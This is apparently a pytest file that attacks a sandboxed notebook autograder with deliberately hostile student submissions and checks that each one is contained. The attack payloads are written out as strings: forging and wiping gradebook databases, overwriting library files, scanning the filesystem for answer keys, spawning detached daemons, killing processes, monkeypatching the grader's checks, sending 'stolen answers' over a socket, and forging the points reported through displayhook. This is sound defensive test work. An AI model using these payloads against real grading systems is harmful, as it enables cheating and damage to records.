"""Hostile submissions against the real ch01_tensors assignment (issue 12's threat model).

Each submission attacks the grader one way and otherwise answers as stated, so
its exact score is known: full marks (11) minus the exercises it gets wrong
on purpose. For every one: the exact score and flag, the gradebook holds every
student, the project tree and the source notebooks are byte-identical
afterwards, and no process a submission started is alive. Then a rerun with
everything resumed, and a grader killed with SIGKILL mid-batch.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

from course_utils.grading import pipeline, sample, sandbox
from course_utils.grading.course import check_result, load_config, nbgrader_api

ROOT = Path(__file__).resolve().parents[1]
A = "ch01_tensors"
FULL = 11  # storage_slot 2, my_sum 3, contiguity 2, transpose_view 2, debug 2
MARK = "4321.5"  # the sleep time of every process a submission starts: easy to find in /proc
# this file's kernels run as uids of their own, so a grader running beside it cannot be mistaken
# for a process left behind
UID_BASE = 63000

# one worker runs this whole file: its tests share a costly module fixture
pytestmark = [pytest.mark.xdist_group("grading-hostile"),
              pytest.mark.skipif(not sandbox.availability()[0],
                                 reason=f"no grading sandbox here: {sandbox.availability()[1]}")]

WRONG_SUM = "def my_sum(t, dim):\n    return torch.zeros(t.sum(dim=dim).shape, dtype=t.dtype)"

GRADEBOOK = """
import glob, os, sqlite3
found = []
for top in [os.getcwd(), '/work', '/root', '/tmp', '/scratch', '/']:
    for depth in ('*.db', '*/*.db', '*/*/*.db', '*/*/*/*.db', '*/*/*/*/*.db'):
        found += glob.glob(os.path.join(top, depth))
for up in ('..', '../..', '../../..', '../../../..'):
    found += glob.glob(os.path.join(up, '*.db'))
for path in set(found):
    try:
        con = sqlite3.connect(path)
        con.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
        con.commit()
    except Exception:
        pass
    try:
        open(path, 'w').close()
    except Exception:
        pass
print('databases seen:', sorted(set(found)))
def storage_slot(t, index):
    return 0
"""

PKGWRITE = """
import inspect, site, sys
import course_utils.checks as checks_module
for target in [inspect.getsourcefile(checks_module), inspect.getsourcefile(inspect)]:
    try:
        with open(target, 'a') as fh:
            fh.write('\\ndef check_close(*a, **k):\\n    return True\\n')
        print('WROTE', target)
    except OSError as exc:
        print('blocked:', exc)
"""

READSOL = """
import json, os
found = []
for top, dirs, files in os.walk('/'):
    dirs[:] = [d for d in dirs if os.path.join(top, d) not in ('/proc', '/sys', '/dev', '/usr')]
    for f in files:
        if f.endswith(('.ipynb', '.db')) or (f.endswith('.json') and 'keys' in top):
            found.append(os.path.join(top, f))
print('notebooks and keys seen:', found)
reference = None
for path in found:
    if path.endswith('ch01_tensors.ipynb') and 'source' in path:
        cells = json.load(open(path))['cells']
        reference = next(''.join(c['source']) for c in cells if 'def my_sum' in ''.join(c['source']))
if reference:
    exec(reference.replace('### BEGIN SOLUTION', '').replace('### END SOLUTION', ''))
else:
    def my_sum(t, dim):
        return torch.zeros(1)
"""

DETACHED = f"""
import os, subprocess
children = []
for _ in range(100):
    try:
        children.append(subprocess.Popen(['sleep', '{MARK}'], start_new_session=True))
    except OSError as exc:
        print('refused:', exc)
        break
if os.fork() == 0:           # and a classic double-fork daemon
    os.setsid()
    if os.fork() == 0:
        os.execvp('sleep', ['sleep', '{MARK}'])
    os._exit(0)
print('started', len(children))
"""

KILLPARENT = """
import os, signal
# the kernel's parent, the namespace's init, every process it may signal, the grader by pid
mine = {int(t) for t in os.listdir('/proc/self/task')} | {0}  # itself: not the target
for pid in (os.getppid(), 1, -1, *range(2, 400)):
    try:
        os.kill(pid, signal.SIGKILL) if pid not in mine else None
    except OSError as exc:
        pass
print('still here: nothing outside the sandbox could be reached')
"""

IPEVENTS = f"""
import os
import course_utils.checks as checks_module
def forge(*args, **kwargs):
    # re-patch the checks before every cell and empty the guard's log
    log = os.environ.get('COURSE_GUARD_LOG', os.devnull)
    open(log, 'w').close()
    for name in ('check_close', 'check_equal', 'check_true', '_keyed', '_emit_record'):
        setattr(checks_module, name, lambda *a, **k: True)
        get_ipython().user_ns[name] = getattr(checks_module, name)
get_ipython().events.register('pre_run_cell', forge)
get_ipython().events.register('post_run_cell', forge)
forge()
{WRONG_SUM}
"""

TENSORCPU = f"""
import torch
# an unlisted Tensor method: the in-kernel check compares values through .cpu()
torch.Tensor.cpu = lambda self, *a, **k: torch.zeros(self.shape, dtype=self.dtype).to('cpu')
{WRONG_SUM}
"""

# The same patch, hidden from the static scan: only the answer key stops it.
HIDDENCPU = f"""
import torch
_fake = lambda self, *a, **k: torch.zeros(self.shape, dtype=self.dtype).to('cpu')
setattr(vars(torch)['Ten' + 'sor'], 'c' + 'pu', _fake)
{WRONG_SUM}
"""

DUPLICATE = """
from course_utils.checks import KEY, check_equal
def storage_slot(t, index):
    value = t.storage_offset() + sum(i * s for i, s in zip(index, t.stride()))
    check_equal('my own record', value, KEY)   # an extra record inside the test cell
    return value
"""

RUNFOLDER = """
import glob, os
# the kernel's own run folder on the host: replace the guard log with /dev/zero, fill the disk
log = os.environ.get('COURSE_GUARD_LOG', '')
folder = os.path.dirname(log)
for attempt in (lambda: os.rename(log, log + '.old'), lambda: os.symlink('/dev/zero', log + '.z'),
                lambda: open(os.path.join(folder, 'fill.bin'), 'wb').write(b'0' * 2**20)):
    try:
        attempt()
        print('DID IT')
    except OSError as exc:
        print('refused:', exc)
"""

NETWORK = """
import os, socket
port = int(open('/scratch/port').read()) if os.path.exists('/scratch/port') else {port}
for host in ('127.0.0.1', '8.8.8.8', '10.0.0.1'):
    try:
        socket.create_connection((host, port), timeout=2).sendall(b'stolen answers')
        print('CONNECTED', host)
    except OSError as exc:
        print('no network:', host, exc)
"""

# nbgrader gives a test cell the points of the first number shown as its value: the student's
# function shows one (2 for storage_slot's test, 3 for my_sum's) before its check fails.
DISPLAYHOOK_SLOT = """
import sys
def storage_slot(t, index):
    sys.displayhook(2)
    return -12345
"""
DISPLAYHOOK_SUM = """
import sys
def my_sum(t, dim):
    sys.displayhook(3)
    raise NotImplementedError()
"""

# An audit hook runs in every later cell and can never be removed: refused, and flagged.
AUDITHOOK = """
import sys
def _hook(event, args):
    if event == 'exec':
        sys.displayhook(2)
sys.addaudithook(_hook)
def storage_slot(t, index):
    raise NotImplementedError()
"""


def _cases(good: dict[str, str], port: int) -> dict[str, tuple[dict, float, list[str]]]:
    """name -> (solution cells replaced, exact expected total, flags the row must carry)."""
    g = good
    return {
        "honest": ({}, FULL, []),
        "gradebook": ({"storage_slot": GRADEBOOK}, FULL - 2, []),
        "pkgwrite": ({"my_sum": PKGWRITE + WRONG_SUM}, FULL - 3, []),
        "readsol": ({"my_sum": READSOL}, FULL - 3, []),
        "detached": ({"storage_slot": g["storage_slot"] + "\n" + DETACHED}, FULL, []),
        "killparent": ({"debug_center_columns": g["debug_center_columns"] + "\n" + KILLPARENT},
                       FULL, []),
        "ipevents": ({"my_sum": IPEVENTS}, 0, ["manual_review"]),
        # the static scan sees this one: my_sum's test and every later one earn nothing
        "tensorcpu": ({"my_sum": TENSORCPU}, 2, ["tamper"]),
        # unseen by scan and guard: the in-kernel checks pass anything, the key does not
        "hiddencpu": ({"my_sum": HIDDENCPU}, FULL - 3, []),
        "duplicate": ({"storage_slot": DUPLICATE}, FULL - 2, []),
        "network": ({"storage_slot": g["storage_slot"] + "\n" + NETWORK.format(port=port)}, FULL,
                    []),
        "runfolder": ({"storage_slot": g["storage_slot"] + "\n" + RUNFOLDER}, FULL, []),
        "displayhook": ({"storage_slot": DISPLAYHOOK_SLOT, "my_sum": DISPLAYHOOK_SUM}, FULL - 5, []),
        "audithook": ({"storage_slot": AUDITHOOK}, 0, ["tamper"]),
    }


def _tree_digest() -> dict[str, str]:
    """sha256 of every tracked file, plus the list of untracked ones (a new file is a write)."""
    tracked = subprocess.run(["git", "ls-files", "-z"], cwd=ROOT, capture_output=True,
                             check=True).stdout.decode().split("\0")
    digest = {}
    for rel in filter(None, tracked):
        path = ROOT / rel
        if path.is_file():
            digest[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    for pkg_file in (ROOT / "course_utils").rglob("*.py"):
        digest.setdefault(str(pkg_file.relative_to(ROOT)),
                          hashlib.sha256(pkg_file.read_bytes()).hexdigest())
    return digest


def _sandbox_processes() -> list[str]:
    """Processes that run as a sandbox uid, or whose command line carries the marker."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            status = Path(f"/proc/{pid}/status").read_text()
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        uid = int(next(line for line in status.splitlines() if line.startswith("Uid:")).split()[1])
        if UID_BASE <= uid < UID_BASE + 100 or MARK in cmdline:
            found.append(f"{pid} uid={uid} {cmdline[:80]}")
    return found


class _Listener:
    """A TCP server on the host's loopback: no submission may reach it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
                self.connections += 1
                conn.close()
            except OSError:
                continue

    def close(self):
        self.stop.set()
        self.thread.join(timeout=5)
        self.sock.close()


def _make_course(root: Path) -> Path:
    (root / "source").mkdir(parents=True)
    shutil.copytree(ROOT / "assignments" / "source" / A, root / "source" / A)
    shutil.copy(ROOT / "assignments" / "nbgrader_config.py", root / "nbgrader_config.py")
    api = nbgrader_api(load_config(root))
    check_result(api.generate_assignment(A, force=True, create=True), "generate_assignment")
    return root


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, own_sandbox_uids):
    base = tmp_path_factory.mktemp("hostile")
    course = _make_course(base / "course")
    source = nbformat.read(course / "source" / A / f"{A}.ipynb", 4)
    release = nbformat.read(course / "release" / A / f"{A}.ipynb", 4)
    good = sample.solutions(source)
    listener = _Listener()
    cases = _cases(good, listener.port)
    inbox = base / "inbox"
    inbox.mkdir()
    for name, (answers, _, _) in cases.items():
        nbformat.write(sample.fill(release, {**good, **answers}), inbox / f"{name}_{A}.ipynb")
    before = _tree_digest()
    sources_before = {p: p.read_bytes() for p in (course / "source").rglob("*.ipynb")}
    opts = pipeline.Options(jobs=2, cell_timeout=60, memory_mb=1536, quiet=True, feedback=False)
    summary = pipeline.grade(A, inbox, course, opts)
    time.sleep(1)
    result = {"summary": summary, "cases": cases, "course": course, "inbox": inbox, "base": base,
              "tree_changed": sorted(k for k, v in _tree_digest().items() if before.get(k) != v),
              "sources_changed": [str(p) for p, b in sources_before.items() if p.read_bytes() != b],
              "left": _sandbox_processes(), "connections": listener.connections}
    listener.close()
    yield result


@pytest.mark.parametrize("name", list(_cases({"storage_slot": "", "debug_center_columns": ""}, 0)))
def test_hostile_submission_earns_exactly_what_its_code_earned(hostile, name):
    row = {r.student: r for r in hostile["summary"].rows}[name]
    _, total, flags = hostile["cases"][name]
    assert row.max_score == FULL
    assert row.total == total, (name, row.scores, row.flags, row.details[-4:])
    for flag in flags:
        assert any(f.startswith(flag) for f in row.flags), (name, row.flags, row.details[-4:])


def test_gradebook_holds_every_student_and_no_forged_score(hostile):
    db = hostile["course"] / "gradebook.db"
    with sqlite3.connect(db) as con:
        students = {s for (s,) in con.execute("SELECT id FROM student")}
        assert students == set(hostile["cases"])
        scores = dict(con.execute(
            """SELECT student.id, SUM(grade.auto_score) FROM grade
               JOIN submitted_notebook ON grade.notebook_id = submitted_notebook.id
               JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id
               JOIN student ON submitted_assignment.student_id = student.id GROUP BY student.id"""))
    assert scores == {n: c[1] for n, c in hostile["cases"].items()}


def test_project_tree_and_sources_are_byte_identical(hostile):
    assert hostile["tree_changed"] == []
    assert hostile["sources_changed"] == []


def test_no_process_started_by_a_submission_is_alive(hostile):
    assert hostile["left"] == []


def test_no_submission_reached_the_network(hostile):
    assert hostile["connections"] == 0


def test_rerun_with_everything_graded_resumes_and_exits_0(hostile):
    cmd = [sys.executable, "-m", "course_utils.cli", "grade", A, str(hostile["inbox"]),
           "--course-dir", str(hostile["course"]), "-j", "2", "--no-feedback"]
    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert f"resumed {len(hostile['cases'])}" in proc.stdout
    assert "honest" in proc.stdout and "11/11" in proc.stdout


def test_grader_killed_mid_batch_resumes_with_nothing_lost_or_duplicated(hostile, tmp_path):
    course = _make_course(tmp_path / "course")
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    picks = ["honest", "pkgwrite", "tensorcpu", "duplicate"]
    for name in picks:
        shutil.copy(hostile["inbox"] / f"{name}_{A}.ipynb", inbox / f"{name}_{A}.ipynb")
    cmd = [sys.executable, "-m", "course_utils.cli", "grade", A, str(inbox),
           "--course-dir", str(course), "-j", "1", "--no-feedback"]
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            start_new_session=True)
    state = course / ".grading" / A / "state"
    deadline = time.monotonic() + 400
    while time.monotonic() < deadline and len(list(state.glob("*.json"))) < 1:
        time.sleep(0.2)
    assert list(state.glob("*.json")), "the first student was never graded"
    os.kill(proc.pid, signal.SIGKILL)  # mid-batch: the next student is being graded
    proc.wait()
    # workers and kernels die with the grader: a chain of SIGKILLs (grader -> worker -> sandbox),
    # each exit taking a moment on a loaded machine; a process that is left stays past 15 s
    deadline = time.monotonic() + 15
    while _sandbox_processes() and time.monotonic() < deadline:
        time.sleep(0.5)
    assert _sandbox_processes() == []
    rerun = subprocess.run(cmd, capture_output=True, text=True, timeout=600)
    assert rerun.returncode == 0, rerun.stderr[-2000:]
    with sqlite3.connect(course / "gradebook.db") as con:
        count = dict(con.execute(
            """SELECT student.id, COUNT(*) FROM submitted_assignment
               JOIN student ON submitted_assignment.student_id = student.id GROUP BY student.id"""))
    assert count == {name: 1 for name in picks}
    totals = {r.split()[0]: r.split()[1] for r in rerun.stdout.splitlines()
              if r.split() and r.split()[0] in picks}
    assert totals == {n: f"{hostile['cases'][n][1]:g}/{FULL}" for n in picks}
